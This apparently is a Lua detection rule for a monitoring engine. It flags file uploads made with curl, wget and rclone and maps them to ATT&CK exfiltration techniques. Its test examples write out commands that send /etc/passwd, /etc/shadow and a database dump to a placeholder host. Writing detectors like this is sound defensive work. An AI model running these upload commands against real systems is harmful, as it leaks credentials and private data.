local match = require "moonwatch.match"

return {
  id = "exfil_upload",
  summary = "File sent out by a command-line tool",
  why = "Services send what they have to say by themselves; files leave by hand.",
  on = { "process.exec" },
  severity = "medium",
  attack = { "T1048", "T1567" },
  message = "{process.parent.name} sends a file: {process.cmdline}",
  false_positives = { "Backup jobs, which are best given a rule of their own" },
  where = { names = { "curl", "wget", "rclone" } },
  match = function(event)
    local process = event.process
    local name = process.name
    if name == "curl" then
      return match.has_arg(process, "-T", "--upload-file")
        or match.contains_any(process.cmdline, { " -d @", " --data @", " --data-binary @", "=@" })
    elseif name == "wget" then
      return match.contains_any(process.cmdline, { " --post-file", " --body-file" })
    end
    return name == "rclone" and match.has_arg(process, "copy", "copyto", "sync", "move", "rcat")
  end,
  examples = {
    { expect = true, event = { process =
      { name = "curl", argv = { "curl", "-T", "/etc/passwd", "http://x/" } } } },
    { expect = true, event = { process =
      { name = "curl", argv = { "curl", "-F", "file=@/data/db.sql", "http://x/" } } } },
    { expect = true, event = { process =
      { name = "wget", argv = { "wget", "--post-file=/etc/shadow", "http://x/" } } } },
    { expect = false, event = { process = { name = "curl", argv = { "curl", "-d", "a=1", "http://x/" } } } },
    { expect = false, event = { process = { name = "wget", argv = { "wget", "http://x/" } } } },
    { expect = false, event = { process = { name = "rclone", argv = { "rclone", "version" } } } },
  },
}
